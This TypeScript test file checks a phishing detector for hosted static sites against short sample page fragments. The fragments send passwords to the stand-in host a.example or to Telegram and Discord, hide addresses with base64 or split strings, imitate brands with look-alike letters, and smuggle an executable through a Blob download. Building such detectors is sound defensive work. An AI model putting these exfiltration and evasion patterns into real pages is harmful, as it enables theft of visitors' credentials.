import { assess } from '../../../../lambda/sites/gate/gatekeeper.ts';
import { filesOf } from '../../../support/build-project.ts';
import { base64, field, noise, page, type SampleFiles, scripted, site } from '../../../support/gate/sample.ts';
import { testRows } from '../../../support/rows.ts';

const HOSTS = ['pages.example'];

function assessed(files: SampleFiles, entry = 'index.html') {
  const bytes = Object.entries(files).map(([path, content]): [string, Uint8Array] => [path, Buffer.from(content)]);
  return assess(new Map(bytes), entry, HOSTS);
}

const body = (html: string) => site('A page', html);
const script = (code: string) => body(`<script>${code}</script>`);
const encoded = (written: string) => script(`document.write(${written})`);
const PASSWORD = '<input type="password">';
const PHRASE = '<textarea placeholder="Enter your recovery phrase"></textarea>';
const CARD = field('Card number', 'name="n"') + field('CVV', 'name="c"');
const LOG_IN = `<form>${PASSWORD}</form>`;
/** Pages with a password that a form or a script sends. */
const form = (action: string) => body(`<form action="${action}">${PASSWORD}</form>`);
const sends = (code: string) => body(`${PASSWORD}<script>${code}</script>`);

testRows([
  ['a password', body(PASSWORD), 'It asks for a password'],
  ['a password by its name', body(field('Kennwort', '')), 'It asks for a password'],
  ['a card by its labels', body(CARD), 'It asks for a payment card'],
  ['a card by autocomplete', body('<input autocomplete=cc-number><input autocomplete=cc-csc>'), 'payment card'],
  ['the phrase of a wallet', body(PHRASE), 'phrase or key of a wallet'],
  ['a code', body('<input autocomplete="one-time-code">'), 'a code that a service sent'],
  ['fields in a script', scripted('A page', 'e("input",{type:"password"})'), 'It asks for a password'],
  ['fields in a string of a script', script(`x.innerHTML='${PASSWORD}'`), 'It asks for a password'],
  ['a form', form('https://a.example/'), 'sends secrets to another host: "a.example"'],
  ['the action of a button', body(`<form>${PASSWORD}<button formaction="//a.example/"></form>`), '"a.example"'],
  [
    'a form by the base of the page',
    body(`<base href="https://a.example/"><form action="x">${PASSWORD}</form>`),
    '"a.example"',
  ],
  [
    'a form into the data of the site',
    body(`<form action="./.data/visitors" method="post">${PASSWORD}</form>`),
    'keeps secrets that visitors type in the data',
  ],
  [
    'a form into the data by the base of the page',
    body(`<base href=".data/"><form action="visitors" method="post">${CARD}</form>`),
    'keeps secrets that visitors type in the data',
  ],
  [
    'a script with the client of the data',
    body(`${PHRASE}<script type="module">import { collection } from './.data/client.js'</script>`),
    'keeps secrets that visitors type in the data',
  ],
  ['fetch', sends(`fetch('https://a.example/',{method:'POST'})`), '"a.example"'],
  ['fetch by a name', sends(`const U="https://a.example";fetch(\`\${U}/x\`,{body:1})`), '"a.example"'],
  ['XMLHttpRequest', sends(`r.open('POST','https://a.example/')`), '"a.example"'],
  ['a beacon', sends(`navigator.sendBeacon("https://a.example/",d)`), '"a.example"'],
  ['a socket', sends(`new WebSocket("wss://a.example/")`), '"a.example"'],
  ['a picture with what was typed', sends(`i.src="https://a.example/?d="+v`), '"a.example"'],
  ['an address in base64', sends(`fetch(atob("${base64('https://a.example/x')}"),{body:1})`), 'hides the address'],
  ['an address in parts', sends(`fetch('htt'+'ps://a.exa'+'mple/',{body:1})`), 'hides the address'],
  ['an address in a list', sends(`k=['https:','//a.example/'].join('');r.open('POST',k)`), 'hides the address'],
  ['an address backwards', sends(`u="/elpmaxe.a//:sptth";fetch(r(u),{body:1})`), 'hides the address'],
  ['a bot of Telegram', sends(`fetch('https://api.telegram.org/bot1:a/sendMessage?text='+t)`), 'to a chat'],
  ['a webhook of Discord', sends(`fetch('https://discord.com/api/webhooks/1/a',{body:1})`), 'to a chat'],
  ['a service for forms', form('https://formspree.io/f/a'), 'keeps forms for anyone'],
  ['a tunnel', form('https://a.ngrok-free.app'), 'nobody known'],
  ['an address of a machine', form('http://203.0.113.9/'), 'nobody known'],
  ['a host that imitates', form('https://paypal-login.example/'), 'imitates a brand'],
  ['a title', site('PayPal: log in', ''), 'Its title claims to be PayPal'],
  ['a heading', body('<h1>Sign in to your Netflix account</h1>'), 'Its heading claims to be Netflix'],
  ['an alternative text', body('<img alt="Netflix logo">'), 'Its picture claims to be Netflix'],
  ['the name of a picture', body('<img src="img/wells_fargo-logo.png">'), 'claims to be Wells Fargo'],
  [
    'the name of a picture in a style',
    body('<style>a{background:url(netflixLogo.svg)}</style>'),
    'claims to be Netflix',
  ],
  [
    'an icon of the brand',
    site('x', '', { head: '<link rel="icon" href="https://www.paypal.com/favicon.ico">' }),
    'claims to be PayPal',
  ],
  ['Cyrillic letters', site('Раураl', ''), 'letters that only look like it'],
  ['digits', site('Micr0soft', ''), 'letters that only look like it'],
  ['characters without a width', site('Net\u200bflix', ''), 'letters that only look like it'],
  ['wide letters', site('Ｎｅｔｆｌｉｘ', ''), 'letters that only look like it'],
  [
    'a page in percent escapes',
    encoded(`unescape('${[...page('x', LOG_IN)].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}')`),
    'a page that is encoded',
  ],
  ['a page in base64', encoded(`atob('${base64(page('x', LOG_IN))}')`), 'a page that is encoded'],
  [
    'a page in codes',
    encoded(`String.fromCharCode(${[...page('x', LOG_IN)].map((c) => c.charCodeAt(0)).join()})`),
    'a page that is encoded',
  ],
  [
    'a page in a frame',
    body(`<iframe src="data:text/html;base64,${base64(LOG_IN)}"></iframe>`),
    'a page that is encoded',
  ],
  ['a page with a key', encoded(`d('${base64(noise(900))}',atob)`), 'a page that only its script can read'],
  ['names in hexadecimal', script('var _0x1a2b3c=1;'.repeat(50)), 'names that nobody can read'],
  ['escaped letters', script(`a='${'\\x61'.repeat(60)}'`), 'letters are escaped'],
  [
    'a refresh',
    body('<meta http-equiv="refresh" content="0; url=https://a.example/">'),
    'It leads to "a.example" at once',
  ],
  ['a location', script('location.href="https://a.example/"'), 'It leads to "a.example" at once'],
  ['_redirects', { ...body(''), _redirects: '/* https://a.example/:splat 302!\n' }, 'It leads to "a.example" at once'],
  ['a hidden location', script(`location.replace(atob("${base64('https://a.example/')}"))`), 'It hides where it leads'],
  ['a frame alone', body('<iframe src="https://a.example/"></iframe>'), 'nothing but a page of "a.example"'],
  ['a program', script('location="setup.exe"'), 'It downloads a program'],
  [
    'a click on a program',
    body('<a id="d" href="setup.exe">x</a><script>onload=()=>d.click()</script>'),
    'It downloads a program',
  ],
  [
    'HTML smuggling',
    script(
      `b=new Blob([atob("${base64(Buffer.concat([Buffer.from('MZ'), noise(900)]))}")]);a.href=URL.createObjectURL(b);a.download='x.exe';a.click()`,
    ),
    'makes a program or an archive',
  ],
] satisfies [string, SampleFiles, string][])('notices what a page does', (_, files, reason) => {
  expect(
    assessed(files)
      .reasons.map((one) => one.reason)
      .join('\n'),
  ).toContain(reason);
});

testRows([
  ['a log-in of its own', form('/login'), 10],
  ['a log-in at the service itself', form('https://a.pages.example/'), 10],
  ['a key of an API', body('<input type="password" placeholder="API key">'), 0],
  ['buttons of other accounts', body('<h1>Log in</h1><button><img alt="Google">Sign in with Google</button>'), 0],
  ['pictures of payments', body('<img alt="Visa"><img alt="PayPal"><img alt="Mastercard">'), 0],
  ['a brand in a sentence', site('Why I left Netflix after ten years', '<h1>Netflix raised its prices</h1>'), 0],
  ['a name that is a common word', site('Apple', '<h1>Apple</h1><p>A fruit.</p>'), 0],
  ['a brand whose form is its own', site('PayPal', `<form action="https://www.paypal.com/">${PASSWORD}</form>`), 10],
  ['a letter to another host', body('<form action="https://a.example/"><input type="email"></form>'), 5],
  ['a location after a click', script('b.onclick=()=>{location.href="https://a.example/"}'), 0],
  ['a refresh after a minute', body('<meta http-equiv="refresh" content="60; url=https://a.example/">'), 0],
  ['what loads data', sends(`fetch("https://a.example/data.json")`), 10],
  [
    'WebAssembly in base64',
    script(`a=atob("${base64(Buffer.concat([Buffer.from('\0asm'), noise(900)]))}");document.write(a)`),
    0,
  ],
] satisfies [string, SampleFiles, number][])('leaves what is harmless alone', (_, files, points) => {
  expect(assessed(files).points).toBe(points);
});

describe('a combination', () => {
  const FOREIGN = `<form action="https://a.example/">${PASSWORD}</form>`;

  test('has more points than its parts', () => {
    const log = assessed(body(FOREIGN)).points;
    const brand = assessed(site('Netflix', '')).points;
    expect(assessed(site('Netflix', FOREIGN)).points).toBeGreaterThan(log + brand);
  });

  test('is that of one page: signs on different pages do not add up', () => {
    const files = { 'index.html': page('Netflix', ''), 'b.html': page('B', FOREIGN) };
    expect(assessed(files).points).toBe(assessed(body(FOREIGN)).points);
  });

  test('includes the scripts and frames that a page loads, and those that no page names', () => {
    const send = 'fetch("https://a.example/",{method:"POST"})';
    const points = assessed(sends(send)).points;
    const named = {
      'a/index.html': page('x', `${PASSWORD}<script src="../s.js?v=1"></script>`),
      's.js': send,
    };
    const root = { 'a/index.html': page('x', `${PASSWORD}<script src="/s.js"></script>`), 'a/s.js': send };
    expect(assessed(named, 'a/index.html').points).toBe(points);
    expect(assessed(root, 'a/index.html').points).toBe(points);
    expect(assessed({ ...body(PASSWORD), 'assets/chunk.js': send }).points).toBe(points);
    expect(assessed({ ...body('<iframe src="f.html"></iframe>'), 'f.html': page('x', FOREIGN) }).points).toBe(
      assessed(body(FOREIGN)).points,
    );
  });
});

test('names the file and the URLs, within bounds', () => {
  const links = Array.from({ length: 2_000 }, (_, i) => `<a href="https://h${i}.example/">x</a>`).join('');
  const path = `${'p/'.repeat(300)}index.html`;
  const { points, reasons, urls } = assessed(
    {
      [path]: page(
        'PаyPal',
        `${PASSWORD}${CARD}${PHRASE}<input name=otp>${LOG_IN}<form action="https://${'a'.repeat(60)}.paypal-login.example/">${PASSWORD}</form>${links}<meta http-equiv=refresh content="0;url=https://netflix-pay.example/"><script>${'var _0x1a2b3c=1;'.repeat(50)}${`a='${'\\x61'.repeat(60)}';`}</script>`,
      ),
    },
    path,
  );
  expect(points).toBeGreaterThan(200);
  expect(reasons).toHaveLength(10);
  for (const { reason, path: file } of reasons) {
    expect(reason.length).toBeLessThanOrEqual(200);
    expect(file.length).toBeLessThanOrEqual(200);
  }
  expect(urls.size).toBe(1_000);
  expect(urls.get('https://h7.example/')).toBe(path);
});

test('reads each page, whatever the others have used up', () => {
  const padding = [
    `<p>${'x'.repeat(390)}</p>`.repeat(2_600),
    '<input>'.repeat(10_100),
    '<a href="//a.example"></a>'.repeat(20_100),
  ].join('');
  const kit = page('Netflix', `<form action="https://a.example/">${PASSWORD}</form>`);
  const kits = { 'index.html': page('x', padding), 'z.html': kit };
  expect(assessed(kits).points).toBe(assessed({ 'index.html': kit }).points);
});

test('assesses a site without files, and one without a page', () => {
  expect(assess(new Map(), '')).toEqual({ points: 0, reasons: [], urls: new Map() });
  expect(assess(filesOf({ 'a.txt': 'PayPal' }), '').points).toBe(0);
});
